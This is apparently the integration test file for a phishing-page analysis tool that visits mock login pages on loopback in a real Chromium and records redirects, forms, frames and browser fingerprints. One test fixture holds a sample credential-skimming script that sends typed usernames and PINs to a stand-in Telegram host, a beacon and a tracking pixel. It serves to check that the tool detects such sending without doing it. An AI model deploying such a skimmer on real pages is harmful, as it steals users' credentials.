//! Visits of servers on loopback, in a real Chromium. Where there is none these tests fail: `cargo xtask test` installs it.

mod attacks;
mod blinding;
mod costs;
mod held_back;
mod hostile;
mod server;
mod way_out;

use std::net::{IpAddr, Ipv4Addr, SocketAddr};
use std::sync::Arc;

use fuwake_core::evidence::visit::{Profile, StepKind, Visit, VisitEnd};
use fuwake_core::evidence::{Answer, Data};

use super::*;
use crate::probes::dns::Dns;
use crate::world::{Manners, Settings};
use server::{Server, page};

const LOOPBACK: IpAddr = IpAddr::V4(Ipv4Addr::LOCALHOST);

/// A visitor who may reach these servers, by any of the names, and nobody else.
fn visitor(servers: &[&Server], names: &[&str]) -> Visitor {
    visitor_through(None, servers, names)
}

/// The same through an operator's proxy.
fn visitor_through(proxy: Option<String>, servers: &[&Server], names: &[&str]) -> Visitor {
    let settings = Settings { resolvers: vec![([127, 0, 0, 1], 9).into()], proxy, ..Settings::default() };
    let dns = Arc::new(Dns::new(&settings, Arc::new(Manners::new())).expect("a resolver"));
    let mut visitor = Visitor::new(&VisitSettings::default(), Dialer::new(&settings, dns)).expect("a folder");
    assert!(visitor.pool.is_some(), "these tests need Chromium: apt-get install chromium fonts-noto-cjk");
    visitor.guard.servers = servers.iter().map(|server| SocketAddr::new(LOOPBACK, server.port)).collect();
    visitor.guard.names = names.iter().map(|name| ((*name).to_owned(), vec![LOOPBACK])).collect();
    visitor
}

async fn seen(visitor: &Visitor, url: &str, profile: Profile) -> Visit {
    told(visitor.visit(url, profile, false).await)
}

fn told(reply: Reply) -> Visit {
    match reply {
        Reply { answer: Answer::Found { data: Data::Visit(visit) }, .. } => *visit,
        reply => unreachable!("a visit is always told: {reply:?}"),
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_link_through_the_browser() {
    let server = Server::start(|request| match request.path() {
        "/r" => "HTTP/1.1 302 Found\r\nlocation: /meta\r\ncontent-length: 0\r\n\r\n".into(),
        "/meta" => page("<meta http-equiv=refresh content='0;url=/script'>"),
        "/script" => page("<script>location.href='/self'</script>"),
        "/self" => page("<form name=f method=post action=/refresh><input name=a value=1></form><script>document.f.submit()</script>"),
        "/refresh" => "HTTP/1.1 200 OK\r\nrefresh: 0;url=/end\r\ncontent-type: text/html\r\ncontent-length: 1\r\n\r\nx".into(),
        "/end" => page(
            "<html lang=ja><meta charset=utf-8><title>ログイン</title><link rel=icon href=/i.png><h1>ログイン</h1>\
             <form action=/post method=post><label>メール <input type=email name=mail></label>\
             <input type=password name=pass placeholder=パスワード><button>入る</button></form>\
             <p>言語 <select id=lang><option>日本語<option>English</select>\
             <script>document.cookie='sid=1';document.querySelector('[name=mail]').value=location.hash.slice(1);console.log('hello')</script>",
        ),
        "/i.png" => "HTTP/1.1 200 OK\r\ncontent-type: image/png\r\ncontent-length: 4\r\n\r\nicon".into(),
        _ => "HTTP/1.1 404 Not Found\r\ncontent-length: 0\r\n\r\n".into(),
    })
    .await;
    let visitor = visitor(&[&server], &["www.shop.example"]);
    let url = format!("http://www.shop.example:{}/r#decoy@example.com", server.port);
    let visit = seen(&visitor, &url, Profile::JapaneseMobile).await;
    let kinds: Vec<(StepKind, Option<u16>)> =
        visit.steps.iter().map(|step| (step.kind, step.status)).collect();
    let expected = [
        (StepKind::Link, Some(302)),
        (StepKind::Redirect, Some(200)),
        (StepKind::MetaRefresh, Some(200)),
        (StepKind::Script, Some(200)),
        (StepKind::Form, Some(200)),
        (StepKind::RefreshHeader, Some(200)),
    ];
    assert_eq!(kinds, expected, "{visit:#?}");
    assert!(visit.steps.iter().all(|step| step.ip == Some(LOOPBACK) && step.at.is_some()));
    assert!(visit.steps[1..].iter().all(|step| step.body.is_some()), "{:#?}", visit.steps);
    assert_eq!(visit.end, VisitEnd::Shown);
    let page = visit.page.as_ref().expect("a page");
    assert_eq!((page.title.as_str(), page.language.as_deref()), ("ログイン", Some("ja")));
    assert_eq!(page.dead_controls, ["言語"]);
    assert_eq!(page.forms[0].fields[1].label, "パスワード");
    assert!(page.icon.is_some() && page.look.is_some() && page.shape.is_some(), "{page:#?}");
    assert_eq!(
        (visit.cookies.as_slice(), visit.console.as_slice()),
        (&["sid".to_owned()][..], &["hello".to_owned()][..])
    );
    for file in visit.files() {
        assert!(visitor.blobs().get(file).is_some());
    }
    assert_eq!(visit.files().len(), 5);
    assert!(visit.bounds.is_empty(), "{:?}", visit.bounds);
    let agent = server.heard("/r").header("user-agent");
    assert!(agent.contains("Android") && !agent.contains("Headless"), "{agent}");
}

/// Forms that send themselves, by a script, and to nobody: where it goes is told, and no server hears of it.
#[tokio::test(flavor = "multi_thread")]
async fn a_probed_form_tells_where_it_goes_and_sends_nothing() {
    let server = Server::start(|request| match request.path() {
        "/form" => page(
            "<h1>Log in</h1><form method=post action=/drop.php?k=1><input name=mail><input type=password name=pass>\
             <select name=lang><option>ja<option>en</select><button>go</button></form>",
        ),
        "/script" => page(
            "<h1>Log in</h1><input id=user><input id=pin type=password><button type=button id=go>go</button><script>\
             document.getElementById('go').onclick=()=>{\
             fetch('https://api.telegram.example/bot1/send',{method:'POST',body:btoa(document.getElementById('user').value)});\
             navigator.sendBeacon('/beacon',document.getElementById('pin').value);\
             new Image().src='/pixel?u='+document.getElementById('user').value}</script>",
        ),
        _ => page("<p>Nothing to be filled in stands on this page, whoever comes and looks at it, at any time of the day.</p>"),
    })
    .await;
    let visitor = visitor(&[&server], &["www.shop.example"]);
    let at = |path: &str| format!("http://www.shop.example:{}{path}", server.port);
    let form = told(visitor.visit(&at("/form"), Profile::JapaneseDesktop, true).await);
    let probe = form.form_probe.expect("a probe");
    assert_eq!(probe.requests, [format!("POST {}", at("/drop.php?k=1"))]);
    assert_eq!(probe.filled, ["mail", "pass", "lang"]);
    assert_eq!(form.steps.len(), 1, "{:#?}", form.steps);
    let script = told(visitor.visit(&at("/script"), Profile::JapaneseMobile, true).await);
    let probe = script.form_probe.expect("a probe");
    assert!(probe.requests.contains(&"POST https://api.telegram.example/bot1/send".to_owned()), "{probe:?}");
    assert!(probe.requests.iter().any(|request| request.contains("/pixel?u=fuwake-decoy")), "{probe:?}");
    assert!(script.page.expect("a page").forms[0].by_script);
    assert_eq!(told(visitor.visit(&at("/none"), Profile::JapaneseMobile, true).await).form_probe, None);
    let heard: Vec<String> = server.all().iter().map(|request| request.path().to_owned()).collect();
    assert!(
        !heard.iter().any(|path| ["/drop.php", "/beacon", "/pixel"].contains(&path.as_str())),
        "{heard:?}"
    );
}

/// A frame of another site that fills the page is the last step, and what stands in it is the page's.
#[tokio::test(flavor = "multi_thread")]
async fn a_frame_that_fills_the_page() {
    let inner = Server::start(|_| {
        page("<title>inner</title><h1>Log in here</h1><form action=/x><input type=password name=p></form>")
    })
    .await;
    let port = inner.port;
    let outer = Server::start(move |_| {
        page(&format!(
            "<body style=margin:0><iframe src=http://login.other.example:{port}/in style='border:0;width:100vw;height:100vh'></iframe>"
        ))
    })
    .await;
    let visitor = visitor(&[&outer, &inner], &["www.shop.example", "login.other.example"]);
    let url = format!("http://www.shop.example:{}/", outer.port);
    let visit = seen(&visitor, &url, Profile::JapaneseDesktop).await;
    assert_eq!(visit.steps.len(), 2, "{:#?}", visit.steps);
    let last = &visit.steps[1];
    assert_eq!((last.kind, last.status, last.body.is_some()), (StepKind::Frame, Some(200), true));
    let page = visit.page.expect("a page");
    assert_eq!((page.title.as_str(), page.forms.len()), ("inner", 1));
    assert!(page.text.contains("Log in here"));
    assert_eq!(
        visit.contacts.iter().map(|contact| contact.host.as_str()).collect::<Vec<_>>(),
        ["login.other.example", "www.shop.example"]
    );
}

/// Without a browser the servers' own words are left: redirects, refreshes, the page as it was sent.
#[tokio::test(flavor = "multi_thread")]
async fn a_link_without_a_browser() {
    let server = Server::start(|request| match request.path() {
        "/r" => "HTTP/1.1 302 Found\r\nlocation: /h\r\nset-cookie: a=b; path=/\r\ncontent-length: 0\r\n\r\n".into(),
        "/h" => "HTTP/1.1 200 OK\r\nrefresh: 0;url=/meta\r\ncontent-type: text/html\r\ncontent-length: 1\r\n\r\nx".into(),
        "/meta" => page("<meta http-equiv=Refresh content=\"0; URL='/end'\">"),
        "/end" => page("<title>ログイン</title><meta charset=utf-8><form action=/p method=post><input type=password name=p></form>"),
        _ => "HTTP/1.1 404 Not Found\r\ncontent-length: 0\r\n\r\n".into(),
    })
    .await;
    let mut visitor = visitor(&[&server], &["www.shop.example"]);
    visitor.pool = None;
    let url = format!("http://www.shop.example:{}/r", server.port);
    let visit = seen(&visitor, &url, Profile::JapaneseDesktop).await;
    let kinds: Vec<StepKind> = visit.steps.iter().map(|step| step.kind).collect();
    assert_eq!(kinds, [StepKind::Link, StepKind::Redirect, StepKind::RefreshHeader, StepKind::MetaRefresh]);
    assert_eq!((visit.browser, visit.end, visit.cookies), (None, VisitEnd::Shown, vec!["a".to_owned()]));
    assert_eq!(visit.page.expect("a page").forms[0].fields[0].kind, "password");
    assert_eq!(server.heard("/h").header("cookie"), "a=b");
}

/// A server that speaks no TLS is asked once, and its certificate is not called wrong.
#[tokio::test(flavor = "multi_thread")]
async fn only_a_wrong_certificate_is_looked_past() {
    let server = Server::start(|_| page("x")).await;
    let mut visitor = visitor(&[&server], &["www.shop.example"]);
    visitor.pool = None;
    let url = format!("https://www.shop.example:{}/", server.port);
    let visit = seen(&visitor, &url, Profile::JapaneseDesktop).await;
    assert_eq!((visit.end, &visit.steps[0].certificate), (VisitEnd::Unreachable, &None));
    assert!(visit.contacts[0].requests == 1 && server.all().len() <= 1, "{visit:#?}");
}

#[tokio::test(flavor = "multi_thread")]
async fn nobody_there() {
    let (server, visitor) = (Server::start(|_| page("x")).await, visitor(&[], &["www.shop.example"]));
    let mut visitor = visitor;
    visitor.guard.servers.push(SocketAddr::new(LOOPBACK, 9));
    let visit = seen(&visitor, "http://www.shop.example:9/", Profile::JapaneseDesktop).await;
    assert_eq!((visit.end, visit.page), (VisitEnd::Unreachable, None));
    visitor.guard.names.insert("none.example".to_owned(), Vec::new());
    let visit = seen(&visitor, "http://none.example/", Profile::JapaneseDesktop).await;
    assert_eq!(visit.end, VisitEnd::NoSuchName, "{visit:#?}");
    let inner = format!("http://127.0.0.1:{}/", server.port);
    let visit = seen(&visitor, &inner, Profile::JapaneseDesktop).await;
    assert_eq!((visit.end, visit.pictures), (VisitEnd::Refused, Default::default()));
    assert_eq!(visit.steps[0].fault.as_deref(), Some("inner-address"));
}

/// A worker that pages share wears no page's disguise.
const SHARED: &str = "HTTP/1.1 200 OK\r\ncontent-type: text/javascript\r\ncontent-length: 84\r\n\r\n\
                      fetch('/from-worker');onconnect=e=>e.ports[0].postMessage(navigator.userAgent);       ";

/// What a page can ask a browser about itself.
#[tokio::test(flavor = "multi_thread")]
async fn visitors_are_whom_they_say_they_are() {
    let server = Server::start(|request| match request.path() {
        "/worker.js" => SHARED.into(),
        _ => page(
            "<p>What the visitor is like stands on the console, where nobody but us looks, and in the headers of the requests.<script>\
             console.log(JSON.stringify([navigator.webdriver,navigator.language,Intl.DateTimeFormat().resolvedOptions().timeZone,\
             navigator.maxTouchPoints,innerWidth,navigator.platform,navigator.userAgentData?navigator.userAgentData.mobile:null,\
             /Headless/.test(navigator.userAgent)]));\
             const w=new SharedWorker('/worker.js');w.port.onmessage=e=>console.log('worker '+e.data);w.port.start();open('/window')</script>",
        ),
    })
    .await;
    let visitor = visitor(&[&server], &["www.shop.example"]);
    let url = format!("http://www.shop.example:{}/", server.port);
    let mobile = seen(&visitor, &url, Profile::JapaneseMobile).await;
    assert!(mobile.console[0].starts_with(r#"[false,"ja","Asia/Tokyo",5,"#), "{:?}", mobile.console);
    let desktop = seen(&visitor, &url, Profile::JapaneseDesktop).await;
    assert!(desktop.console[0].contains(r#""Asia/Tokyo",0,1366,"Win32""#), "{:?}", desktop.console);
    let languages: Vec<String> =
        server.all().iter().map(|request| request.header("accept-language")).collect();
    assert!(languages.iter().all(|languages| languages.starts_with("ja,en-US")), "{languages:?}");
    let worker = desktop.console.iter().find(|line| line.starts_with("worker ")).expect("a worker's words");
    assert!(worker.contains("Windows NT 10.0") && !worker.contains("Headless"), "{worker}");
    let agents: Vec<String> = server.all().iter().map(|request| request.header("user-agent")).collect();
    assert!(
        agents.iter().all(|agent| agent.contains("Chrome/") && !agent.contains("Headless")),
        "{agents:?}"
    );
    let whole = mobile.pictures.first.and_then(|name| visitor.blobs().get(&name)).expect("a picture");
    let size = image::load_from_memory(&whole).expect("a picture");
    assert_eq!((size.width(), size.height()), (824, 1_830));
}
